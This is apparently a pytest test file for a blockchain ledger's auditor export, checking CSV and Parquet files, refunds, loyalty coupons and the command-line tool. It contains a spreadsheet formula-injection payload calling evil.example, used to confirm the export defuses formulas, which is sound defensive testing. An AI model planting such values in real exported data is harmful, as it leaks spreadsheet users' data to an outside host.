"""What auditors get is the ledger, to the unit, in files that other tools read."""

import asyncio
import csv
import hashlib
import json
import os
import re
import subprocess
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest
import pytest_asyncio
from market import BILL, Market, indexing, open_market, wait_for

from devnet.dev_accounts import TREASURY_INDEX, dev_account
from devnet.transactions import address_of
from indexer.export import export_ledger
from ledger.json_hex import to_hex
from ledger.order import Status
from ledger.refund import RefundReason
from ledger.store.export import EXPORT_TABLES
from ledger.store.orders import StoredOrder
from ledger.store.refund_lists import read_stored_refund
from ledger.store.refunds import (
    NewRefund,
    insert_refund,
    lock_refund,
    lock_refundable,
    record_transaction,
)
from ledger.units import Units

pytestmark = pytest.mark.asyncio(loop_scope="module")

COMMAND = str(Path(sys.executable).with_name("billcoin-indexer"))
GUIDE = Path(__file__).parents[2] / "docs" / "auditor.md"
HUGE = 2**255 + 1
TOO_MUCH = 7
STUDENT = b"\x0a" * 32
MADE_A_COUPON = ("redeem", "customer", "programme", 5)
ATTACK = '=HYPERLINK("https://evil.example/?"&A1)'


@dataclass
class Sold:
    """A market whose student bought five milks, and was given back what one of them cost too much.

    So there is a coupon, and a refund that the chain proves.
    """

    market: Market
    order: StoredOrder
    refund_id: str


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def sold(module_ledger_url: str) -> AsyncIterator[Sold]:
    async with open_market(module_ledger_url) as market:
        orders = [await market.order(customer=STUDENT) for _ in range(5)]
        await market.mint(b"\x01" * 20, HUGE)
        async with indexing(market):
            for at, order in enumerate(orders):
                await market.pay(order.address, BILL + (0 if at else TOO_MUCH))
            await market.mine(5)  # the chain's finality lies so deep
            order = await market.until(orders[0].id, Status.SETTLED)
            refund_id = await promised(market, order)
            await refunded(market, order, refund_id)
            await market.until_tip()
        yield Sold(market, order, refund_id)


@pytest.fixture
def market(sold: Sold) -> Market:
    return sold.market


async def promised(market: Market, order: StoredOrder) -> str:
    new = NewRefund(
        id="rfd_" + order.id.removeprefix("ord_"),
        order_id=order.id,
        account_id="acc_finance",
        reason=RefundReason.OVERPAID,
        note=ATTACK,
        amount=Units(TOO_MUCH),
        recipient=b"\x0b" * 20,
    )
    async with market.ledger.transaction():
        locked = await lock_refundable(market.ledger, order.id)
        assert locked is not None
        await insert_refund(market.ledger, new, locked, now=datetime.now(UTC))
    return new.id


async def refunded(market: Market, order: StoredOrder, refund_id: str) -> None:
    await market.mint(address_of(dev_account(TREASURY_INDEX)), BILL)
    paid = await market.pay(b"\x0b" * 20, TOO_MUCH, payer=TREASURY_INDEX)
    async with market.ledger.transaction():
        found = await lock_refund(market.ledger, order.id, refund_id)
        assert found is not None
        refund, status = found
        sent = replace(refund, tx_hash=paid)
        now = datetime.now(UTC)
        await record_transaction(market.ledger, sent, status, account_id="acc_finance", now=now)
    await market.mine()

    async def verified() -> bool:
        stored = await read_stored_refund(market.ledger, order.id, refund_id)
        return stored is not None and stored.status == "verified"

    await wait_for(verified, "the refund's proof")


async def exported(market: Market, folder: Path, kind: str) -> None:
    await export_ledger(
        market.ledger,
        chain_id=market.chain.chain_id,
        names=list(EXPORT_TABLES),
        kind=kind,
        folder=folder,
        progress=lambda _name, _rows: None,
    )


def csv_rows(path: Path) -> list[tuple[int, str, str, str | None]]:
    with path.open(newline="") as file:
        return [
            (int(r["block_number"]), r["recipient"], r["amount_units"], r["order_id"] or None)
            for r in csv.DictReader(file)
        ]


async def test_both_formats_hold_every_row_exactly(market: Market, tmp_path: Path) -> None:
    await exported(market, tmp_path, "csv")
    await exported(market, tmp_path, "parquet")
    stored = await market.ledger.fetch(
        "SELECT t.*, p.order_id FROM transfer t LEFT JOIN payment p "
        "USING (chain_id, block_hash, log_index) ORDER BY block_number, log_index"
    )
    expected = [
        (row["block_number"], to_hex(row["recipient"]), str(int(row["amount"])), row["order_id"])
        for row in stored
    ]
    assert any(row[2] == str(HUGE) for row in expected)
    assert csv_rows(tmp_path / "transfers.csv") == expected
    found = duckdb.sql(
        "SELECT block_number, recipient, amount_units, order_id "  # noqa: S608 - our own folder
        f"FROM '{tmp_path}/transfers.parquet'"
    ).fetchall()
    assert found == expected
    head = await market.head_number()
    check_manifest(tmp_path, head)


def check_manifest(folder: Path, head: int) -> None:
    manifest = json.loads((folder / "export.json").read_text())
    assert manifest["tipNumber"] == head
    for name, file_ in manifest["files"].items():
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == file_["sha256"]
    assert not list(folder.glob("*.partial"))


def guide_query() -> str:
    (query,) = re.findall(r"```sql\n(.*?)```", GUIDE.read_text(), re.DOTALL)
    return str(query)


def dicts(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(newline="") as file:
        return list(csv.DictReader(file))


async def test_a_refund_is_there_with_its_proof_and_its_books(sold: Sold, tmp_path: Path) -> None:
    await exported(sold.market, tmp_path, "csv")
    await exported(sold.market, tmp_path, "parquet")
    (row,) = dicts(tmp_path, "refunds")
    stored = await read_stored_refund(sold.market.ledger, sold.order.id, sold.refund_id)
    assert stored is not None
    assert stored.tx_hash is not None
    assert stored.block_hash is not None
    assert [row[name] for name in ("id", "order_id", "status", "reason", "source")] == [
        *(sold.refund_id, sold.order.id, "verified", "overpaid", "owed_back"),
    ]
    assert (row["amount_units"], row["recipient"]) == (str(TOO_MUCH), "0x" + "0b" * 20)
    assert (row["account_id"], row["cancelled_at"]) == ("acc_finance", "")
    assert row["tx_hash"] == to_hex(stored.tx_hash)
    assert (row["block_number"], row["block_hash"]) == (
        *(str(stored.block_number), to_hex(stored.block_hash)),
    )
    # The transfer that proves it is among the transfers: the same block, transaction and amount.
    query = """
        SELECT t.amount_units, o.amount_refunded_units FROM 'audit/refunds.parquet' r
        JOIN 'audit/transfers.parquet' t USING (block_hash, log_index, tx_hash)
        JOIN 'audit/orders.parquet' o ON o.id = r.order_id
    """
    found = duckdb.sql(query.replace("audit/", f"{tmp_path}/")).fetchall()
    assert found == [(str(TOO_MUCH), str(TOO_MUCH))]
    books = [
        [entry[name] for name in ("refund_id", "debit", "credit", "amount_units", "account_id")]
        for entry in dicts(tmp_path, "refund_entries")
    ]
    assert books == [
        [sold.refund_id, "owed_back", "promised", str(TOO_MUCH), "acc_finance"],
        [sold.refund_id, "promised", "treasury", str(TOO_MUCH), "chain"],
    ]


async def test_points_and_coupons_are_there_of_keyed_hashes(market: Market, tmp_path: Path) -> None:
    await exported(market, tmp_path, "csv")
    await exported(market, tmp_path, "parquet")
    postings = dicts(tmp_path, "loyalty_postings")
    moved = [(row["kind"], row["debit"], row["credit"], int(row["points"])) for row in postings]
    assert moved == [*[("earn", "programme", "customer", 1)] * 5, MADE_A_COUPON]
    assert {row["customer"] for row in postings} == {to_hex(STUDENT)}
    assert all(datetime.fromisoformat(row["created_at"]).tzinfo for row in postings)
    (coupon,) = dicts(tmp_path, "coupons")
    assert coupon["id"] == postings[-1]["coupon_id"]
    assert (coupon["customer"], coupon["status"]) == (to_hex(STUDENT), "usable")
    for name in ("loyalty_postings", "coupons"):
        written = duckdb.read_parquet(f"{tmp_path}/{name}.parquet").fetchall()
        as_text = [["" if cell is None else str(cell) for cell in row] for row in written]
        assert as_text == [list(row.values()) for row in dicts(tmp_path, name)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
async def test_no_spreadsheet_takes_a_reference_for_a_formula(
    market: Market, tmp_path: Path, start: str
) -> None:
    attack = start + 'HYPERLINK("https://evil.example/?"&A1)'
    await market.ledger.execute("UPDATE orders SET reference = $1", attack)
    await exported(market, tmp_path, "csv")
    await exported(market, tmp_path, "parquet")
    for name, column, written in (
        ("orders", "reference", attack),
        ("refunds", "note", ATTACK),
        ("refund_entries", "note", ATTACK),
    ):
        assert {"'" + written} <= {row[column] for row in dicts(tmp_path, name)}
        assert not any(row[column].startswith(start) for row in dicts(tmp_path, name))
        # What only programs read is left as it was written.
        kept = duckdb.read_parquet(f"{tmp_path}/{name}.parquet").select(column).fetchall()
        assert (written,) in kept


async def test_the_guide_s_example_runs(market: Market, tmp_path: Path) -> None:
    await exported(market, tmp_path, "parquet")
    rows = duckdb.sql(guide_query().replace("audit/", f"{tmp_path}/")).fetchall()
    assert rows == [
        ("cafeteria", "settled", 5, 5, str(5 * BILL), str(5 * BILL + TOO_MUCH), str(TOO_MUCH))
    ]


async def test_the_command_writes_and_refuses_clearly(market: Market, tmp_path: Path) -> None:
    def run(*arguments: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(  # noqa: S603 - our own command
            [COMMAND, "export", "--out", str(tmp_path), *arguments],
            env={"PATH": os.environ["PATH"]} | market.environment(),
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    ended = await asyncio.to_thread(run, "--format", "csv", "--what", "blocks", "--json")
    assert ended.returncode == 0, ended.stderr
    assert json.loads(ended.stdout)["files"]["blocks.csv"]["rows"] == await market.head_number() + 1
    refused = await asyncio.to_thread(run, "--what", "blocks,wallets")
    assert refused.returncode == 2
    assert "transfers" in refused.stderr
